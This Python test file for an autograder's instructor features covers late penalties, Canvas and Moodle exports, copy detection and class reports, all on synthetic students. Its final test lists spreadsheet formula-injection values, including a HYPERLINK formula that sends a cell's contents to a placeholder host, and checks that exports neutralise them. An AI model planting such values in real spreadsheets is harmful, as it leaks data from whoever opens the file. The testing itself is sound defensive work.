"""What an instructor does after grading: progress in a log, late penalties, LMS
exports and similar answers. One class is graded once, through the CLI, for the module."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil

import pytest

from autograder.core.course import ASSIGNMENTS
from autograder.core.results import CheckResult, NotebookResult
from autograder.frontends.progress import Progress
from autograder.judge.late import LatePolicy, parse_time
from bench import synth

from .conftest import ROOT
from .test_batch import SAMPLE, cli

A = ASSIGNMENTS["01_conv_basics"]
FULL = sum(c.points for c in A.checks())
"""01's points (visible and hidden): alice's, erin's and gina's score."""
PENALTY = round(0.15 * FULL, 6)
"""frank's late penalty: 2 started days x 10%, capped at 15%."""
FRANK = round(FULL - PENALTY, 6)
VARIANTS = ROOT / "tests" / "variants"
DUE = "2026-03-02 23:59:00 Asia/Seoul"  # 14:59 UTC
POLICY = f"""
per = "day"
penalty = 10
cap = 15
grace_minutes = 15

[due]
01_conv_basics = "{DUE}"
"""


def renamed(source: str) -> str:
    """``source`` with its local names changed, as a student hiding a copy would."""
    for old, new in {"image": "img", "kernel": "filt", "kh": "fh", "kw": "fw", "windows": "patches"}.items():
        source = re.sub(rf"\b{old}\b", new, source)
    source = source.replace("def conv2d_manual(img, filt,", "def conv2d_manual(image, kernel,")
    return source.replace("np.asarray(img,", "np.asarray(image,").replace("np.asarray(filt,", "np.asarray(kernel,")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """(submitted, reports, CompletedProcess of `grade`): alice on time, bob 10 minutes
    late (within grace), erin and frank two independent correct variants (erin undated,
    frank 1.5 days late by Gradescope's metadata), gina a renamed copy of frank's answer."""
    tmp = tmp_path_factory.mktemp("instructor")
    submitted, out = tmp / "submitted", tmp / "reports"
    folder = {s: submitted / s / A.name for s in ("alice", "bob", "erin", "frank", "gina")}
    synth.write(synth.solved(A), folder["alice"] / A.notebook)
    (folder["alice"] / "timestamp.txt").write_text("2026-03-02 10:00:00.000000 UTC")
    shutil.copytree(SAMPLE / "bob" / A.name, folder["bob"])
    (folder["bob"] / "timestamp.txt").write_text("2026-03-03 00:09:00.000000 Asia/Seoul")
    loops = (VARIANTS / "conv2d_manual__loops.py").read_text()
    sliding = (VARIANTS / "conv2d_manual__sliding_window.py").read_text()
    synth.write(synth.solved(A, {"conv2d_manual": loops}), folder["erin"] / A.notebook)
    synth.write(synth.solved(A, {"conv2d_manual": sliding}), folder["frank"] / A.notebook)
    (folder["frank"] / "submission_metadata.json").write_text(json.dumps({"created_at": "2026-03-04T11:59:00+09:00"}))
    synth.write(synth.solved(A, {"conv2d_manual": renamed(sliding)}), folder["gina"] / A.notebook)
    policy = tmp / "late.toml"
    policy.write_text(POLICY)
    proc = cli("grade", str(submitted), "--out", str(out), "--late-policy", str(policy), "--workers", "2")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return submitted, out, proc


def result(out, student) -> NotebookResult:
    return NotebookResult.from_json(json.loads((out / student / A.name / "results.json").read_text()))


# 1. progress


@pytest.mark.slow
def test_progress_in_a_log_is_one_plain_line_per_submission(graded):
    _, _, proc = graded
    assert "\r" not in proc.stderr
    lines = [line for line in proc.stderr.splitlines() if re.match(r"\[\d/5\] ", line)]
    assert len(lines) == 5 and all("ETA" in line for line in lines), proc.stderr
    assert sorted(line.split()[1] for line in lines) == ["alice", "bob", "erin", "frank", "gina"]


def test_progress_to_a_file_counts_up_and_estimates_the_rest():
    stream = io.StringIO()
    with Progress(2, stream=stream) as bar:
        bar.advance("alice  01_conv_basics\n15/15")
        bar.advance("bob 01_conv_basics 12/15")
    first, second = stream.getvalue().splitlines()
    assert first.startswith("[1/2] alice 01_conv_basics 15/15  (elapsed 0:00:00, ETA")
    assert second.startswith("[2/2] bob") and second.endswith("ETA 0:00:00)")
    with pytest.raises(ValueError, match="total=-1"):
        Progress(-1)


# 3. late policy


def policy(**changes) -> LatePolicy:
    return LatePolicy(**{"due": {A.name: parse_time(DUE)}, "penalty": 10, "cap": 100, **changes})


@pytest.mark.parametrize(
    "submitted, changes, fraction",
    [
        ("2026-03-02 23:00:00 Asia/Seoul", {}, 0.0),  # on time
        ("2026-03-02 15:10:00 UTC", {"grace_minutes": 15}, 0.0),  # 11 minutes late, within grace
        ("2026-03-02 15:20:00 UTC", {"grace_minutes": 15}, 0.1),  # past grace: a started day
        ("2026-03-04 02:59:00 UTC", {}, 0.2),  # 1.5 days late: 2 started days
        ("2026-03-04 02:59:00 UTC", {"cap": 15}, 0.15),  # capped
        ("2026-03-04 02:59:00 UTC", {"per": "hour", "penalty": 1}, 0.36),  # 36 hours
    ],
)
def test_late_penalty_per_started_day_or_hour_with_grace_and_cap(submitted, changes, fraction):
    p = policy(**changes)
    assert p.penalty_fraction(p.seconds_late(A.name, parse_time(submitted))) == pytest.approx(fraction)


def test_a_bad_policy_is_refused_with_the_value(tmp_path):
    with pytest.raises(ValueError, match="per='week'"):
        LatePolicy(per="week")
    bad = tmp_path / "late.json"
    bad.write_text(json.dumps({"due": {"99_nothing": "2026-01-01"}}))
    with pytest.raises(ValueError, match="99_nothing"):
        LatePolicy.load(bad)


@pytest.mark.slow
def test_results_written_before_late_policies_still_load(graded):
    _, out, _ = graded
    data = json.loads((out / "alice" / A.name / "results.json").read_text())
    for key in ("submitted_at", "seconds_late", "late_penalty"):
        del data["extra_data"][key]
    old = NotebookResult.from_json(data)
    assert old.late_penalty == 0 and old.final_score == old.score == old.max_score


@pytest.mark.slow
def test_the_batch_records_times_and_grades_csv_uses_the_penalised_score(graded):
    _, out, _ = graded
    alice, bob, erin, frank = (result(out, s) for s in ("alice", "bob", "erin", "frank"))
    assert alice.submitted_at == "2026-03-02T10:00:00+00:00" and alice.late_penalty == 0
    assert bob.seconds_late == 600 and bob.late_penalty == 0  # within the 15 minutes' grace
    assert erin.submitted_at is None and erin.late_penalty == 0
    assert frank.seconds_late == 1.5 * 86400 and frank.score == frank.max_score == FULL
    assert frank.late_penalty == PENALTY and frank.final_score == FRANK  # 2 days x 10%, capped at 15%
    assert f"-{PENALTY:g} points for lateness" in frank.summary()
    assert "Late: submitted 1.50 days after the due date" in (out / "frank" / A.name / "feedback.md").read_text()
    rows = list(csv.DictReader((out / "grades.csv").read_text().splitlines()))
    by_student = {r["student"]: r for r in rows}
    assert (
        by_student["frank"][A.name] == f"{FRANK:g}" and by_student["frank"][f"{A.name}:late_penalty"] == f"{PENALTY:g}"
    )
    assert by_student["frank"]["total"] == f"{FRANK:g}" and by_student["alice"][A.name] == f"{FULL:g}"
    assert "after late penalties" in (out / "summary.md").read_text()


@pytest.mark.slow
def test_resume_puts_kept_results_under_the_new_policy(graded, tmp_path):
    """A due date moved after grading: --resume grades nothing again, yet every kept
    result, grades.csv and the feedback follow the new policy; without a policy, no penalty."""
    submitted, out, _ = graded
    kept = tmp_path / "reports"
    shutil.copytree(out, kept)
    policy = tmp_path / "late.toml"
    policy.write_text(POLICY.replace(DUE, "2026-03-03 14:59:00 UTC"))  # one day later than before
    proc = cli("grade", str(submitted), "--out", str(kept), "--resume", "--late-policy", str(policy))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert result(out, "frank").late_penalty == PENALTY
    frank = result(kept, "frank")
    one_day = round(0.1 * FULL, 6)  # 1 started day x 10%
    assert frank.seconds_late == 0.5 * 86400 and frank.late_penalty == one_day
    assert (
        f"0.50 days after the due date (2026-03-04T02:59:00+00:00); -{one_day:g} points"
        in (kept / "frank" / A.name / "feedback.md").read_text()
    )
    rows = {r["student"]: r for r in csv.DictReader((kept / "grades.csv").read_text().splitlines())}
    assert rows["frank"][A.name] == f"{FULL - one_day:g}" and rows["alice"][A.name] == f"{FULL:g}"
    assert result(kept, "bob").seconds_late == 0  # his 10 minutes late are now on time
    assert '"graded": 0' in proc.stdout and '"repenalised": 2' in proc.stdout  # bob and frank
    proc = cli("grade", str(submitted), "--out", str(kept), "--resume")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert result(kept, "frank").late_penalty == 0 and result(kept, "frank").submitted_at is None


# 2. LMS export


ROSTER = """student,name,id,sis_user_id,sis_login_id,section,email
alice,"Kim, Alice",101,S1,akim,A,alice@example.edu
bob,"Lee, Bob",102,S2,blee,A,bob@example.edu
erin,"Park, Erin",103,S3,epark,B,erin@example.edu
frank,"Choi, Frank",104,S4,fchoi,B,frank@example.edu
zoe,"Han, Zoe",105,S5,zhan,B,zoe@example.edu
"""


@pytest.mark.slow
def test_canvas_export_has_canvas_columns_points_possible_and_penalised_scores(graded, tmp_path):
    _, out, _ = graded
    roster, target = tmp_path / "roster.csv", tmp_path / "canvas.csv"
    roster.write_text(ROSTER)
    proc = cli("export", str(out), "--to", "canvas", "--roster", str(roster), "--out", str(target))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(target.read_text().splitlines()))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", A.name]
    assert rows[1] == ["Points Possible", "", "", "", "", f"{FULL:g}"]
    assert rows[2] == ["Kim, Alice", "101", "S1", "akim", "A", f"{FULL:g}"]
    assert rows[5] == ["Choi, Frank", "104", "S4", "fchoi", "B", f"{FRANK:g}"]
    assert rows[6] == ["Han, Zoe", "105", "S5", "zhan", "B", ""]
    assert "not in the roster (not exported): gina" in proc.stderr
    assert f"in the roster but not graded (empty cell): zoe/{A.name}" in proc.stderr


@pytest.mark.slow
def test_moodle_export_has_an_identifier_column_and_one_per_assignment(graded, tmp_path):
    _, out, _ = graded
    roster, target = tmp_path / "roster.csv", tmp_path / "moodle.csv"
    roster.write_text(ROSTER)
    proc = cli("export", str(out), "--to", "moodle", "--roster", str(roster), "--out", str(target))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(target.read_text().splitlines()))
    assert rows[0] == ["Email address", A.name] and rows[4] == ["frank@example.edu", f"{FRANK:g}"]
    assert "gina" in proc.stderr and "zoe" in proc.stderr
    roster.write_text("name,email\nAlice,a@example.edu\n")
    proc = cli("export", str(out), "--to", "moodle", "--roster", str(roster), "--out", str(target))
    assert proc.returncode == 2 and "needs a 'student' column" in proc.stderr


# 4. similarity


@pytest.mark.slow
def test_a_renamed_copy_ranks_above_the_threshold_and_independent_variants_below(graded):
    submitted, out, _ = graded
    proc = cli("similarity", str(out), "--submissions", str(submitted), "--threshold", "0.6")
    assert proc.returncode == 0, proc.stderr
    pairs = json.loads((out / "similarity.json").read_text())["pairs"]
    conv = {tuple(p["students"]): p["similarity"] for p in pairs if p["function"] == "conv2d_manual"}
    assert conv[("frank", "gina")] >= 0.6 > conv[("erin", "frank")]
    page = (out / "similarity.html").read_text()
    assert "not a verdict" in page and "<mark>" in page and "<code>conv2d_manual</code>: frank and gina" in page
    assert "<code>conv2d_manual</code>: erin and frank" not in page
    summary = (out / "summary.md").read_text()
    assert "## Similar answers" in summary and "frank / gina" in summary


def test_answers_left_as_released_are_not_compared():
    from autograder.report import similarity

    stub = similarity.answer_cells(synth.release(A), A)
    pairs = similarity.compare({"carol": stub, "dan": stub}, A)
    assert pairs == []  # stubs hold nothing of their own


# 5. the class report


@pytest.mark.slow
def test_the_class_report_has_figures_per_assignment_check_and_misconception(graded):
    _, out, _ = graded
    summary = (out / "summary.md").read_text()
    for png in (f"distribution-{A.name}.png", "heatmap.png", "histogram.png"):
        assert (out / png).read_bytes().startswith(b"\x89PNG") and f"({png})" in summary
    bob = result(out, "bob").score  # below FULL: his flipped kernel passes only the checks with symmetric kernels
    assert bob < FULL
    mean = round((3 * FULL + bob + FRANK) / 5, 2)  # alice, erin, gina full marks; bob; frank after penalty
    full = f"{FULL:g}"
    assert f"| {A.name} | 5 | {mean:g} ({100 * mean / FULL:.0f}%) | {full} (100%) | {full} | {full} |" in summary
    assert f"| **maximum** | {full} | {full} |" in summary
    assert f"| frank | **{FRANK:g}** | {FRANK:g} (late -{PENALTY:g}) |" in summary  # the course total first
    maxima = " | ".join(f"{A.points(f):g}" for f in A.functions)
    assert f"### {A.name}, per function (raw points)" in summary and f"| **maximum** | {maxima} |" in summary
    assert "(hidden) | `conv2d_manual` |" in summary and "discrimination" in summary
    assert f"| `flipped-kernel` | {A.name} | `conv2d_manual` | bob |" in summary
    assert f"| {A.name} | `flipped-kernel` | 1 student | `conv2d_manual` |" in summary
    html = (out / "summary.html").read_text()
    assert '<img alt="students x functions" src="heatmap.png">' in html and "http" not in html  # offline


def test_discrimination_is_the_point_biserial_correlation_with_the_rest():
    from autograder.report.class_report import point_biserial

    # (M1 - M0) / s * sqrt(p q) = (9 - 1) / sqrt(17) * 0.5
    assert point_biserial([True, True, False, False], [10, 8, 2, 0]) == pytest.approx(0.97, abs=0.005)
    assert point_biserial([True, True], [3, 5]) is None  # everyone passed: no information
    assert point_biserial([True, False], [4, 4]) is None


# 5. spreadsheets


HOSTILE_IDS = ('=HYPERLINK("x.test?"&A1,"x")', "@SUM(1+1)", "+1+1", "-1-1", "\tpadded", "\rreturn")


def test_no_csv_cell_the_package_writes_starts_a_formula(tmp_path):
    from autograder.report import lms, reports

    checks = tuple(ASSIGNMENTS[A.name].checks(False))
    results = []
    for student in HOSTILE_IDS:
        graded = tuple(CheckResult(c.name, c.function, "", c.points, c.points, c.hidden) for c in checks)
        results.append(NotebookResult(student, A.name, graded))
        reports.write_submission(tmp_path, results[-1], False)
    reports.write_class_summary(tmp_path)
    roster = [
        {"student": s, "name": s, "id": s, "sis_user_id": s, "sis_login_id": s, "section": s} for s in HOSTILE_IDS
    ]
    written = {
        "grades.csv": (tmp_path / "grades.csv").read_bytes().decode(),  # "\r" kept as is
        "canvas": lms.export(results, roster, "canvas").text,
    }
    for name, text in written.items():
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows for c in row]
        assert {f"'{s}" for s in HOSTILE_IDS} <= set(cells), (name, rows)
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
